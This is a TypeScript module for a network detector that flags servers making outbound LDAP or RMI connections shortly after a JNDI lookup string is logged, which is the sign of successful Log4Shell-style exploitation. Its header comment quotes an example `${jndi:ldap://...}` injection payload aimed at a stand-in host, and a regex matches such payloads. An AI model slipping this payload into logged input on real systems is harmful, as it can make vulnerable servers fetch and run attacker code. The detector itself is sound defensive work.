// Where lookups were pointed to that somebody slipped into a log (`${jndi:ldap://198.51.100.7/a}`): a server
// that goes there afterwards has run them.

import { RecentMap } from './recent-map.ts';
import type { SeenFlow } from './seen-flow.ts';

const mostLookups = 2000;
const mostRecent = 500;
const withinUs = 600e6;
const target =
  /\$\{[^}]{0,60}?(?:ldaps?|rmi|iiop|https?|dns):\/{1,2}(\d{1,3}(?:\.\d{1,3}){3})(?::(\d{1,5}))?/i;

/** What is kept of a flow. */
export type RememberedFlow = Pick<
  SeenFlow,
  'flowId' | 'srcIp' | 'dstIp' | 'dstPort' | 'startUs' | 'endUs'
>;

interface Lookup {
  timeUs: number;
  isFollowed: boolean;
}

export class LookupCallbacks {
  readonly #lookups = new RecentMap<string, Lookup>(mostLookups, () => ({
    timeUs: 0,
    isFollowed: false,
  }));
  /** Of LDAP, over which most of them go: a request may be told only after it was followed. */
  readonly #recent = new RecentMap<string, { flow: RememberedFlow | undefined }>(
    mostRecent,
    () => ({
      flow: undefined,
    }),
  );

  /** Answers the flow that has followed it before it was told. */
  note(server: string, text: string, timeUs: number): RememberedFlow | undefined {
    const host = target.exec(text)?.[1];
    if (host === undefined || host === server) return undefined;
    const lookup = this.#lookups.touch(`${server}>${host}`);
    lookup.timeUs = timeUs;
    const flow = this.#recent.get(`${server}>${host}`)?.flow;
    return flow && this.follows(flow) ? flow : undefined;
  }

  see(flow: SeenFlow): boolean {
    if (flow.service === 'ldap') {
      const { flowId, srcIp, dstIp, dstPort, startUs, endUs } = flow;
      const kept = { flowId, srcIp, dstIp, dstPort, startUs, endUs };
      this.#recent.touch(`${srcIp}>${dstIp}`).flow = kept;
    }
    return this.#lookups.size > 0 && this.follows(flow);
  }

  /** Whether this flow follows a lookup; the first one does. */
  follows({ srcIp, dstIp, startUs }: RememberedFlow): boolean {
    const lookup = this.#lookups.get(`${srcIp}>${dstIp}`);
    if (!lookup || lookup.isFollowed || Math.abs(startUs - lookup.timeUs) > withinUs) return false;
    lookup.isFollowed = true;
    return true;
  }
}
